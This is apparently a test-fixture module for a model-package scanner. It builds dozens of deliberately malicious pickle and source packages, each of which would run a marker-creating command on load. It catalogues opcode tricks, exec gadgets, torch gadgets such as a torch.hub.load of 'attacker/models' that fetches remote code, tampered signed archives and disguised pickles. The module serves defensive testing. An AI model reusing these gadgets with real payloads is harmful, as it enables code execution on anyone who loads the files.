"""A catalogue of sample packages, malicious and benign, written by us, for
the scan tests, the safe-loading tests and bench/scan_peers.py.

API (stable: other tests and the benchmark rely on it):

    SAMPLES: tuple[Sample, ...]   in a fixed order, names unique
    Sample(name, kind, builder, description)
        kind         "malicious" or "benign"
        builder      builder(folder: pathlib.Path) -> pathlib.Path: writes the
                     package archive (a .pt zip) `folder / f"{name}.pt"` and
                     returns its path; `folder` must exist. Raises
                     SampleUnavailable when a library it needs (torch,
                     scikit-learn) is missing.
    by_name(name) -> Sample
    build(name, folder) -> pathlib.Path       same as by_name(name).builder(folder)
    marker(folder, name) -> pathlib.Path      the file a malicious sample's
                     payload creates if any of it runs (nothing else is done:
                     `touch`, or Python's open(..., "w")); a test asserts it
                     does not exist after scanning or refusing to load.

A malicious sample is one whose loading (import_module of its modules or
load_pickle of its pickles, through hermetic or torch.package) would run
code the package's author chose, or whose records are not what was
written or signed. Building a sample runs none of its payload: hostile
pickles are written as bytes (by pickle.dumps of a __reduce__ that names
the callable, or opcode by opcode), hostile modules as source strings.
Every pickle is stored as <package>/<resource> through the exporter's
save_binary unless the attack needs a name the exporter refuses, in which
case the archive is rewritten record by record with hermetic's raw
ArchiveWriter.
"""

import collections
import dataclasses
import datetime
import decimal
import os
import pathlib
import pickle
import shlex
import shutil
import struct
import subprocess
import sys
import typing

import hermetic
from hermetic import _core, _manifest

__all__ = ["SAMPLES", "Sample", "SampleUnavailable", "build", "by_name", "marker"]


class SampleUnavailable(Exception):
    """A library the sample needs is not installed."""


@dataclasses.dataclass(frozen=True)
class Sample:
    name: str
    kind: str  # "malicious" | "benign"
    builder: typing.Callable[[pathlib.Path], pathlib.Path]
    description: str


def marker(folder, name):
    return pathlib.Path(folder) / f"{name}.ran"


_SAMPLES = []


def _sample(kind, description):
    """Registers fn(ctx) as the builder of the sample named after fn."""

    def register(fn):
        name = fn.__name__.lstrip("_")

        def builder(folder):
            return fn(_Context(pathlib.Path(folder), name))

        builder.__name__ = name
        _SAMPLES.append(Sample(name, kind, builder, description))
        return fn

    return register


class _Context:
    """What a builder knows: where to write and what its payload does."""

    def __init__(self, folder, name):
        self.folder = folder
        self.name = name
        self.path = folder / f"{name}.pt"
        self.marker = marker(folder, name)
        # A shell command and a Python statement that only create the marker.
        self.command = f"touch {shlex.quote(str(self.marker))}"
        self.code = f"open({str(self.marker)!r}, 'w').close()"
        self.module = f"catalogue_{name}"


def _torch():
    try:
        import torch
    except ImportError:
        raise SampleUnavailable("needs torch") from None
    return torch


# Pickle bytes, opcode by opcode (pickletools' names).


def _su(s):
    """SHORT_BINUNICODE."""
    raw = s.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def _global(module, name):
    """GLOBAL."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _stack_global(module, name):
    return _su(module) + _su(name) + b"\x93"


def _call1(arg):
    """The one-tuple of `arg` (pickled bytes), then REDUCE."""
    return arg + b"\x85R"


class _Reduce:
    """Pickles as `callable(*args)`: pickle.dumps of it names `callable`
    as the pickler would (os.system is posix.system)."""

    def __init__(self, *reduced):
        self.reduced = reduced

    def __reduce__(self):
        return self.reduced


def _dumps_call(fn, *args, protocol=2):
    return pickle.dumps(_Reduce(fn, args), protocol=protocol)


# Archive writers.


def _export(ctx, *, pickles=(), sources=(), externs=(), texts=(), dependencies=(),
            **options):
    """A hermetic package: `sources` ((module, source)) saved as source
    strings, `pickles` ((record, bytes), record "package/resource") as
    binary records, `externs` patterns, `dependencies` modules added (so
    that an extern one is listed in .data/extern_modules)."""
    with hermetic.PackageExporter(ctx.path, **options) as exporter:
        for pattern in externs:
            exporter.extern(pattern)
        for module in dependencies:
            exporter.add_dependency(module, dependencies=False)
        for module, source in sources:
            exporter.save_source_string(module, source)
        for record, data in pickles:
            package, _, resource = record.rpartition("/")
            exporter.save_binary(package, resource, data)
        for record, text in texts:
            package, _, resource = record.rpartition("/")
            exporter.save_text(package, resource, text)
    return ctx.path


def _pickle_sample(ctx, data, record="model/model.pkl", also_extern=()):
    """A package of one pickle whose globals' modules (and `also_extern`)
    it declares extern, as an attacker would so that torch.package's
    importer finds them."""
    modules = sorted({module for module, _ in _core.scan_pickle(data)
                      if module not in ("builtins", "__builtin__")} | set(also_extern))
    return _export(ctx, pickles=[(record, data)], externs=modules, dependencies=modules)


def _rewrite(path, replace=None, add=(), drop=()):
    """Rewrites the archive at `path` record by record, as someone who
    changes an archive without its author's tools would: `replace` maps
    record names to new bytes, `add` appends (name, bytes), `drop` removes."""
    replace = replace or {}
    reader = _core.ArchiveReader(str(path))
    records = [(name, replace.get(name) or reader.read(name))
               for name in reader.records() if name not in drop]
    reader.close()
    tmp = path.with_suffix(".rewrite")
    writer = _core.ArchiveWriter(str(tmp))
    for name, data in [*records, *add]:
        writer.write_record(name, data)
    writer.finish()
    # The writer names the top-level folder after its file.
    os.replace(tmp, path)
    return path


class _ImportableModule:
    """A module importable under `name` while the context lasts (sources
    the exporter must find in the interpreter, e.g. classes to pickle);
    removed from sys.path and sys.modules afterwards."""

    def __init__(self, ctx, name, source):
        self.root = ctx.folder / f"{ctx.name}.src"
        self.name = name
        self.source = source

    def __enter__(self):
        self.root.mkdir(exist_ok=True)
        (self.root / f"{self.name}.py").write_text(self.source)
        sys.path.insert(0, str(self.root))
        __import__(self.name)
        return sys.modules[self.name]

    def __exit__(self, *exc):
        sys.path.remove(str(self.root))
        sys.modules.pop(self.name, None)
        shutil.rmtree(self.root, ignore_errors=True)


# Malicious: one opcode family per sample, each running os.system.


@_sample("malicious", "GLOBAL posix.system + REDUCE, protocol 0 (text)")
def _reduce_protocol0(ctx):
    return _pickle_sample(ctx, _dumps_call(os.system, ctx.command, protocol=0))


@_sample("malicious", "GLOBAL + REDUCE, protocol 1 (binary, no PROTO)")
def _reduce_protocol1(ctx):
    return _pickle_sample(ctx, _dumps_call(os.system, ctx.command, protocol=1))


@_sample("malicious", "GLOBAL + REDUCE, protocol 2")
def _reduce_protocol2(ctx):
    return _pickle_sample(ctx, _dumps_call(os.system, ctx.command, protocol=2))


@_sample("malicious", "STACK_GLOBAL over memoised strs + REDUCE, protocol 4")
def _reduce_protocol4(ctx):
    return _pickle_sample(ctx, _dumps_call(os.system, ctx.command, protocol=4))


@_sample("malicious", "STACK_GLOBAL + REDUCE, protocol 5 with FRAME")
def _reduce_protocol5(ctx):
    return _pickle_sample(ctx, _dumps_call(os.system, ctx.command, protocol=5))


@_sample("malicious", "INST os system: calls os.system(*args after MARK)")
def _inst_opcode(ctx):
    return _pickle_sample(ctx, b"(S" + repr(ctx.command).encode() + b"\nios\nsystem\n.")


@_sample("malicious", "OBJ: MARK, os.system, its argument, OBJ calls it")
def _obj_opcode(ctx):
    return _pickle_sample(ctx, b"(" + _global("os", "system") + b"S"
                          + repr(ctx.command).encode() + b"\no.")


@_sample("malicious", "NEWOBJ builds functools.partial(posix.system, cmd), REDUCE calls it")
def _newobj_partial(ctx):
    return _pickle_sample(ctx, b"\x80\x02" + _global("functools", "partial")
                          + _global("posix", "system") + _su(ctx.command)
                          + b"\x86\x81)R.")


@_sample("malicious", "NEWOBJ_EX (protocol 4) builds partial(posix.system, cmd), REDUCE calls it")
def _newobj_ex_partial(ctx):
    return _pickle_sample(ctx, b"\x80\x04" + _stack_global("functools", "partial")
                          + _stack_global("posix", "system") + _su(ctx.command)
                          + b"\x86}\x92)R.")


@_sample("malicious", "BUILD calls __setstate__ of a packaged class that runs os.system")
def _build_setstate(ctx):
    source = ("class Payload:\n"
              "    def __setstate__(self, state):\n"
              "        import os\n"
              "        os.system(state)\n")
    data = (b"\x80\x02" + _global(ctx.module, "Payload") + b")\x81"
            + _su(ctx.command) + b"b.")
    return _export(ctx, sources=[(ctx.module, source)], externs=["os"],
                   pickles=[("model/model.pkl", data)])


@_sample("malicious", "BUILD with a (None, slots) state on an allowed class: "
                      "setattr(fractions.Fraction, '__str__', posix.system)")
def _build_slotstate_patch(ctx):
    return _pickle_sample(ctx, b"\x80\x02" + _global("fractions", "Fraction")
                          + b"N}" + _su("__str__") + _global("posix", "system")
                          + b"s\x86b.")


@_sample("malicious", "BUILD updates the __dict__ of module os.path: exists = posix.system")
def _build_dict_module_patch(ctx):
    return _pickle_sample(ctx, b"\x80\x02" + _global("os", "path") + b"}"
                          + _su("exists") + _global("posix", "system") + b"sb.")


# Malicious: every way of naming a global.


@_sample("malicious", "STACK_GLOBAL over plain strs, no memo")
def _stack_global_plain(ctx):
    return _pickle_sample(ctx, b"\x80\x04" + _stack_global("os", "system")
                          + _call1(_su(ctx.command)) + b".")


@_sample("malicious", "STACK_GLOBAL operands BINPUT, popped, then BINGET")
def _stack_global_binput(ctx):
    return _pickle_sample(ctx, b"\x80\x04" + _su("os") + b"q\x000" + _su("system")
                          + b"q\x010h\x00h\x01\x93" + _call1(_su(ctx.command)) + b".")


@_sample("malicious", "STACK_GLOBAL operands MEMOIZE, popped, then BINGET")
def _stack_global_memoize(ctx):
    return _pickle_sample(ctx, b"\x80\x04" + _su("os") + b"\x94" + _su("system")
                          + b"\x9400h\x00h\x01\x93" + _call1(_su(ctx.command)) + b".")


@_sample("malicious", "STACK_GLOBAL operands LONG_BINPUT / LONG_BINGET")
def _stack_global_long_binput(ctx):
    put = lambda i: b"r" + struct.pack("<I", i)  # noqa: E731
    get = lambda i: b"j" + struct.pack("<I", i)  # noqa: E731
    return _pickle_sample(ctx, b"\x80\x04" + _su("os") + put(0) + b"0" + _su("system")
                          + put(1) + b"0" + get(0) + get(1) + b"\x93"
                          + _call1(_su(ctx.command)) + b".")


@_sample("malicious", "STACK_GLOBAL operands from text PUT / GET, no PROTO header")
def _stack_global_text_memo(ctx):
    return _pickle_sample(ctx, b"Vos\np0\n0Vsystem\np1\n0g0\ng1\n\x93(V"
                          + ctx.command.encode() + b"\ntR.")


@_sample("malicious", "STACK_GLOBAL whose module str is computed on the stack (str('os'))")
def _stack_global_computed(ctx):
    return _pickle_sample(ctx, b"\x80\x04" + _global("builtins", "str")
                          + _call1(_su("os")) + _su("system") + b"\x93"
                          + _call1(_su(ctx.command)) + b".", also_extern=["os"])


def _ext(ctx, opcode):
    return _pickle_sample(ctx, b"\x80\x02" + opcode + _call1(_su(ctx.command)) + b".")


@_sample("malicious", "EXT1: a global named by the host's copyreg extension registry")
def _extension_code_ext1(ctx):
    return _ext(ctx, b"\x82\x05")


@_sample("malicious", "EXT2 extension code")
def _extension_code_ext2(ctx):
    return _ext(ctx, b"\x83" + struct.pack("<H", 700))


@_sample("malicious", "EXT4 extension code")
def _extension_code_ext4(ctx):
    return _ext(ctx, b"\x84" + struct.pack("<i", 70000))


@_sample("malicious", "qualified name through module attributes of an allowed module: "
                      "torch.nn.modules.module + torch.serialization.os.system")
def _qualified_through_module(ctx):
    return _pickle_sample(ctx, b"\x80\x04" + _stack_global(
        "torch.nn.modules.module", "torch.serialization.os.system")
        + _call1(_su(ctx.command)) + b".")


@_sample("malicious", "qualified name through an import alias of a packaged module: "
                      "m + _o.system where m does `import os as _o`")
def _qualified_through_interned(ctx):
    source = "import os as _o\n\nSCALE = 2\n"
    data = (b"\x80\x04" + _stack_global(ctx.module, "_o.system")
            + _call1(_su(ctx.command)) + b".")
    return _export(ctx, sources=[(ctx.module, source)], externs=["os"],
                   pickles=[("model/model.pkl", data)])


# Malicious: callables that run code, commands or I/O.


@_sample("malicious", "builtins.eval of Python text")
def _builtins_eval(ctx):
    return _pickle_sample(ctx, _dumps_call(eval, ctx.code))


@_sample("malicious", "builtins.exec of Python text, protocol 4")
def _builtins_exec(ctx):
    return _pickle_sample(ctx, _dumps_call(exec, ctx.code, protocol=4))


@_sample("malicious", "getattr(__import__('os'), 'system')(cmd)")
def _getattr_import(ctx):
    return _pickle_sample(ctx, b"\x80\x02" + _global("builtins", "getattr") + b"("
                          + _global("builtins", "__import__") + _call1(_su("os"))
                          + _su("system") + b"tR" + _call1(_su(ctx.command)) + b".")


@_sample("malicious", "getattr(importlib.import_module('os'), 'system')(cmd)")
def _importlib_import_module(ctx):
    return _pickle_sample(ctx, b"\x80\x02" + _global("builtins", "getattr") + b"("
                          + _global("importlib", "import_module") + _call1(_su("os"))
                          + _su("system") + b"tR" + _call1(_su(ctx.command)) + b".")


@_sample("malicious", "operator.methodcaller('system', cmd)(__import__('os'))")
def _operator_methodcaller(ctx):
    return _pickle_sample(ctx, b"\x80\x02" + _global("operator", "methodcaller") + b"("
                          + _su("system") + _su(ctx.command) + b"tR("
                          + _global("builtins", "__import__") + _call1(_su("os"))
                          + b"tR.")


@_sample("malicious", "subprocess.Popen(['touch', marker])")
def _subprocess_popen(ctx):
    return _pickle_sample(ctx, _dumps_call(subprocess.Popen, ["touch", str(ctx.marker)],
                                           protocol=3))


@_sample("malicious", "subprocess.run(cmd, shell=True): NEWOBJ_EX builds the partial with "
                      "keywords, REDUCE calls it")
def _subprocess_run(ctx):
    return _pickle_sample(ctx, b"\x80\x04" + _stack_global("functools", "partial")
                          + _stack_global("subprocess", "run") + b"\x85}" + _su("shell")
                          + b"\x88s\x92" + _call1(_su(ctx.command)) + b".")


@_sample("malicious", "runpy._run_code(text, {}) execs the text")
def _runpy_run_code(ctx):
    return _pickle_sample(ctx, b"\x80\x02" + _global("runpy", "_run_code")
                          + _su(ctx.code) + b"}\x86R.")


@_sample("malicious", "webbrowser.open of a file: URL")
def _webbrowser_open(ctx):
    return _pickle_sample(ctx, b"\x80\x02" + _global("webbrowser", "open")
                          + _call1(_su(f"file://{ctx.marker}")) + b".")


@_sample("malicious", "timeit.timeit(stmt, 'pass', time.perf_counter, 1) execs stmt")
def _timeit_exec(ctx):
    return _pickle_sample(ctx, b"\x80\x02" + _global("timeit", "timeit") + b"("
                          + _su(ctx.code) + _su("pass") + _global("time", "perf_counter")
                          + b"K\x01tR.")


@_sample("malicious", "cProfile.run(stmt) execs stmt")
def _cprofile_run(ctx):
    return _pickle_sample(ctx, b"\x80\x02" + _global("cProfile", "run")
                          + _call1(_su(ctx.code)) + b".")


@_sample("malicious", "numpy.testing._private.utils.runstring(text, {}) execs the text")
def _numpy_runstring(ctx):
    return _pickle_sample(ctx, b"\x80\x02" + _global("numpy.testing._private.utils", "runstring")
                          + _su(ctx.code) + b"}\x86R.")


@_sample("malicious", "pickle.loads of an inner pickle the outer scan cannot see")
def _pickle_loads_nested(ctx):
    inner = _dumps_call(os.system, ctx.command)
    return _pickle_sample(ctx, b"\x80\x03" + _global("_pickle", "loads")
                          + _call1(b"B" + struct.pack("<I", len(inner)) + inner) + b".")


@_sample("malicious", "types.FunctionType(marshal.loads(code), {})() runs marshalled code")
def _marshal_function(ctx):
    import marshal

    code = marshal.dumps(compile(ctx.code, "<payload>", "exec"))
    return _pickle_sample(ctx, b"\x80\x03" + _global("types", "FunctionType") + b"("
                          + _global("marshal", "loads") + _call1(b"B" + struct.pack("<I", len(code))
                                                                 + code)
                          + b"}tR)R.")


@_sample("malicious", "builtins.open(marker, 'w') creates a file")
def _builtins_open_write(ctx):
    return _pickle_sample(ctx, b"\x80\x02" + _global("builtins", "open")
                          + _su(str(ctx.marker)) + _su("w") + b"\x86R.")


@_sample("malicious", "shutil.copyfile('/dev/null', marker) writes a file")
def _shutil_copyfile(ctx):
    return _pickle_sample(ctx, b"\x80\x02" + _global("shutil", "copyfile")
                          + _su("/dev/null") + _su(str(ctx.marker)) + b"\x86R.")


@_sample("malicious", "socket.create_connection(('127.0.0.1', 9)) opens a connection")
def _socket_connect(ctx):
    return _pickle_sample(ctx, b"\x80\x02" + _global("socket", "create_connection")
                          + _su("127.0.0.1") + b"K\x09\x86\x85R.")


# Malicious: torch's own gadgets.


def _torch_save_bytes(obj):
    import io

    torch = _torch()
    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return buffer.getvalue()


@_sample("malicious", "torch.load of a path: a nested load the scan of this pickle cannot see")
def _torch_load_nested(ctx):
    inner = ctx.folder / f"{ctx.name}.inner.pt"
    inner.write_bytes(_torch_save_bytes(_Reduce(os.system, (ctx.command,))))
    return _pickle_sample(ctx, b"\x80\x02" + _global("torch", "load")
                          + _call1(_su(str(inner))) + b".")


@_sample("malicious", "torch.storage._load_from_bytes: torch.load(weights_only=False) of "
                      "bytes in the pickle")
def _torch_load_from_bytes(ctx):
    inner = _torch_save_bytes(_Reduce(os.system, (ctx.command,)))
    return _pickle_sample(ctx, b"\x80\x02" + _global("torch.storage", "_load_from_bytes")
                          + _call1(b"B" + struct.pack("<I", len(inner)) + inner) + b".")


@_sample("malicious", "torch.fx reduce_graph_module execs the import block and code it is given")
def _fx_reduce_graph_module(ctx):
    body = b"}" + _su("_code") + _su("def forward(self):\n    return None\n") + b"s"
    return _pickle_sample(ctx, b"\x80\x02" + _global("torch.fx.graph_module", "reduce_graph_module")
                          + body + _su(ctx.code + "\n") + b"\x86R.")


@_sample("malicious", "torch.hub.load runs a hubconf.py it fetches")
def _torch_hub_load(ctx):
    return _pickle_sample(ctx, b"\x80\x02" + _global("torch.hub", "load")
                          + _su("attacker/models") + _su("net") + b"\x86R.")


@_sample("malicious", "torch.jit.load of a TorchScript file")
def _torch_jit_load(ctx):
    return _pickle_sample(ctx, b"\x80\x02" + _global("torch.jit", "load")
                          + _call1(_su(str(ctx.folder / "script.pt"))) + b".")


@_sample("malicious", "torch._tensor._rebuild_from_type_v2(func, ...) calls func: posix.system")
def _torch_rebuild_callable(ctx):
    return _pickle_sample(ctx, b"\x80\x02" + _global("torch._tensor", "_rebuild_from_type_v2")
                          + b"(" + _global("posix", "system") + _global("torch", "Tensor")
                          + _su(ctx.command) + b"\x85}tR.")


@_sample("malicious", "torch.utils.cpp_extension.load_inline compiles and loads C++")
def _torch_cpp_extension(ctx):
    return _pickle_sample(ctx, b"\x80\x02" + _global("torch.utils.cpp_extension", "load_inline")
                          + _su("ext") + _su("int x = system(\"true\");") + b"\x86R.")


# Malicious: records that are not what was compiled, written or signed.

_HARMLESS_SOURCE = "def scale(x):\n    return 2 * x\n"


@_sample("malicious", "a .data/bytecode record not compiled from the source beside it "
                      "(header hash of the source, code of another)")
def _bytecode_tampered(ctx):
    from hermetic import _bytecode

    with _ImportableModule(ctx, ctx.module, _HARMLESS_SOURCE):
        with hermetic.PackageExporter(ctx.path, bytecode=True) as exporter:
            exporter.save_module(ctx.module)
    record = _bytecode.bytecode_record_name(ctx.module, False)
    filename = f"{ctx.module}.py"
    evil = _bytecode.compile_pyc(
        f"import os\nos.system({ctx.command!r})\n{_HARMLESS_SOURCE}".encode(), filename)
    genuine = _bytecode.compile_pyc(_HARMLESS_SOURCE.encode(), filename)
    return _rewrite(ctx.path, replace={record: genuine[:16] + evil[16:]})


@_sample("malicious", "a source changed after the manifest was written (manifest kept)")
def _source_tampered_under_manifest(ctx):
    module = ctx.module
    _export(ctx, sources=[(module, "THRESHOLD = 0.5\n")], manifest=True)
    return _rewrite(ctx.path, replace={f"{module}.py": b"THRESHOLD = 50.0\n"})


@_sample("malicious", "a record added to a signed archive")
def _record_added_after_signing(ctx):
    secret, _ = _manifest.generate_key()
    _export(ctx, sources=[(ctx.module, "THRESHOLD = 0.5\n")], sign_with=secret)
    return _rewrite(ctx.path, add=[("model/extra.txt", b"loaded by nobody, yet\n")])


# Malicious: pickles under names that do not say pickle.


@_sample("malicious", "a protocol 0 pickle (text, no header) in model/notes.txt")
def _hidden_text_protocol0(ctx):
    return _pickle_sample(ctx, _dumps_call(os.system, ctx.command, protocol=0),
                          record="model/notes.txt")


@_sample("malicious", "a protocol 2 pickle named like a tensor storage, .data/7.storage")
def _hidden_storage_name(ctx):
    _export(ctx, pickles=[("model/model.pkl", pickle.dumps({"weights": [1.0]}, protocol=2))])
    return _rewrite(ctx.path, add=[(".data/7.storage",
                                    _dumps_call(os.system, ctx.command, protocol=2))])


@_sample("malicious", "a protocol 4 pickle in model/weights.bin")
def _hidden_binary_protocol4(ctx):
    return _pickle_sample(ctx, _dumps_call(os.system, ctx.command, protocol=4),
                          record="model/weights.bin")


@_sample("malicious", "a protocol 1 pickle in model/vocab.txt")
def _hidden_text_protocol1(ctx):
    return _pickle_sample(ctx, _dumps_call(os.system, ctx.command, protocol=1),
                          record="model/vocab.txt")


# Malicious: packaged sources that run commands when imported (the pickle
# names one of their classes, so loading it imports them).


def _source_sample(ctx, source, externs):
    data = b"\x80\x02" + _global(ctx.module, "Model") + b")\x81."
    return _export(ctx, sources=[(ctx.module, source + "\n\nclass Model:\n    pass\n")],
                   externs=externs, pickles=[("model/model.pkl", data)])


@_sample("malicious", "a packaged module calling os.system when imported")
def _source_os_system(ctx):
    return _source_sample(ctx, f"import os\nos.system({ctx.command!r})", ["os"])


@_sample("malicious", "a packaged module calling eval when imported")
def _source_eval(ctx):
    return _source_sample(ctx, f"eval({ctx.code!r})", [])


@_sample("malicious", "`import os as o; o.system(...)` in a packaged module")
def _source_alias_import_as(ctx):
    return _source_sample(ctx, f"import os as o\no.system({ctx.command!r})", ["os"])


@_sample("malicious", "`from subprocess import run as r; r(...)` in a packaged module")
def _source_from_import_as(ctx):
    return _source_sample(
        ctx, f"from subprocess import run as r\nr(['touch', {str(ctx.marker)!r}])",
        ["subprocess"])


@_sample("malicious", "`import subprocess as sp; sp.call(...)` in a packaged module")
def _source_module_alias(ctx):
    return _source_sample(
        ctx, f"import subprocess as sp\nsp.call(['touch', {str(ctx.marker)!r}])",
        ["subprocess"])


# Benign.

_MODEL_SOURCE = """
import torch


class Net(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.linear = torch.nn.Linear(3, 2)
        self.stack = torch.nn.Sequential(torch.nn.ReLU(), torch.nn.Linear(2, 2))

    def forward(self, x):
        return self.stack(torch.relu(self.linear(x)))
"""


@_sample("benign", "an nn.Module with its code interned, torch externed")
def _nn_module_with_code(ctx):
    _torch()
    with _ImportableModule(ctx, ctx.module, _MODEL_SOURCE) as module:
        with hermetic.PackageExporter(ctx.path) as exporter:
            exporter.intern(ctx.module)
            exporter.extern("torch.**")
            exporter.save_pickle("model", "model.pkl", module.Net())
    return ctx.path


@_sample("benign", "a state_dict of tensors (torch.nn.Linear and BatchNorm)")
def _state_dict(ctx):
    torch = _torch()
    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.BatchNorm1d(3))
    with hermetic.PackageExporter(ctx.path) as exporter:
        exporter.save_pickle("model", "state.pkl", model.state_dict())
    return ctx.path


@_sample("benign", "a torch.fx GraphModule (symbolic_trace of a small module), saved as "
                   "torch.package does: its generated code interned")
def _fx_graph_module(ctx):
    torch = _torch()
    import torch.fx

    with _ImportableModule(ctx, ctx.module, _MODEL_SOURCE) as module:
        traced = torch.fx.symbolic_trace(module.Net())
        with hermetic.PackageExporter(ctx.path) as exporter:
            exporter.intern(ctx.module)
            exporter.extern("torch.**")
            exporter.save_pickle("model", "model.pkl", traced)
    return ctx.path


@_sample("benign", "a scikit-learn Pipeline (StandardScaler, LogisticRegression), sklearn "
                   "and numpy externed")
def _sklearn_pipeline(ctx):
    try:
        from sklearn.linear_model import LogisticRegression
        from sklearn.pipeline import Pipeline
        from sklearn.preprocessing import StandardScaler
    except ImportError:
        raise SampleUnavailable("needs scikit-learn") from None
    import numpy

    x = numpy.arange(20, dtype=float).reshape(10, 2)
    pipeline = Pipeline([("scale", StandardScaler()), ("fit", LogisticRegression())])
    pipeline.fit(x, (x[:, 0] > 9).astype(int))
    with hermetic.PackageExporter(ctx.path) as exporter:
        exporter.extern(["sklearn.**", "numpy.**", "scipy.**"])
        exporter.save_pickle("model", "pipeline.pkl", pipeline)
    return ctx.path


@_sample("benign", "numpy objects: arrays of several dtypes, scalars, dtypes, numpy externed")
def _numpy_objects(ctx):
    import numpy

    objects = {
        "floats": numpy.linspace(0, 1, 5),
        "ints": numpy.arange(6, dtype=numpy.int16).reshape(2, 3),
        "structured": numpy.zeros(2, dtype=[("a", "<i4"), ("b", "<f8")]),
        "scalar": numpy.float32(1.5),
        "int_scalar": numpy.int64(7),
        "dtype": numpy.dtype("complex64"),
        "bools": numpy.array([True, False]),
    }
    with hermetic.PackageExporter(ctx.path) as exporter:
        exporter.extern("numpy.**")
        exporter.save_pickle("data", "arrays.pkl", objects)
    return ctx.path


@_sample("benign", "plain containers and stdlib data: OrderedDict, datetime, Decimal, sets")
def _plain_containers(ctx):
    objects = collections.OrderedDict(
        when=datetime.datetime(2026, 1, 2, 3, 4, 5),
        price=decimal.Decimal("1.25"),
        tags={"a", "b"},
        nested=[(1, 2.0, "three", b"four", None, True)],
        counts=collections.Counter("hello"),
    )
    with hermetic.PackageExporter(ctx.path) as exporter:
        exporter.save_pickle("data", "config.pkl", objects, pickle_protocol=4)
    return ctx.path


@_sample("benign", "the package torch.package 2.13 wrote (tests/data/torch213_package.pt)")
def _torch213_package(ctx):
    reference = pathlib.Path(__file__).resolve().parent.parent / "data" / "torch213_package.pt"
    shutil.copyfile(reference, ctx.path)
    return ctx.path


@_sample("benign", "a package with bytecode records compiled from its sources (bytecode=True)")
def _bytecode_matching(ctx):
    with _ImportableModule(ctx, ctx.module, _HARMLESS_SOURCE):
        with hermetic.PackageExporter(ctx.path, bytecode=True) as exporter:
            exporter.save_module(ctx.module)
    return ctx.path


@_sample("benign", "a signed package, every record as signed")
def _signed_package(ctx):
    secret, _ = _manifest.generate_key()
    with hermetic.PackageExporter(ctx.path, sign_with=secret) as exporter:
        exporter.save_source_string(ctx.module, _HARMLESS_SOURCE)
        exporter.save_pickle("data", "config.pkl", {"scale": 2})
    return ctx.path


@_sample("benign", "text resources: README, JSON, CSV, a vocabulary, beside a pickle")
def _text_resources(ctx):
    texts = [
        ("model/README.md", "# Model\n\nN.B. trained in fp16.\n"),
        ("model/config.json", '{"layers": [3, 2], "activation": "relu"}\n'),
        ("model/metrics.csv", "epoch,loss\n1,0.5\n2,0.25\n"),
        ("model/vocab.txt", "cat\ndog\nbird\n"),
        ("model/notes.txt", "(see the paper)\nS. Author, 2026.\n"),
    ]
    return _export(ctx, texts=texts,
                   pickles=[("model/model.pkl", pickle.dumps({"epochs": 2}, protocol=3))])


SAMPLES = tuple(_SAMPLES)
_BY_NAME = {s.name: s for s in SAMPLES}
assert len(_BY_NAME) == len(SAMPLES)


def by_name(name):
    return _BY_NAME[name]


def build(name, folder):
    return by_name(name).builder(pathlib.Path(folder))
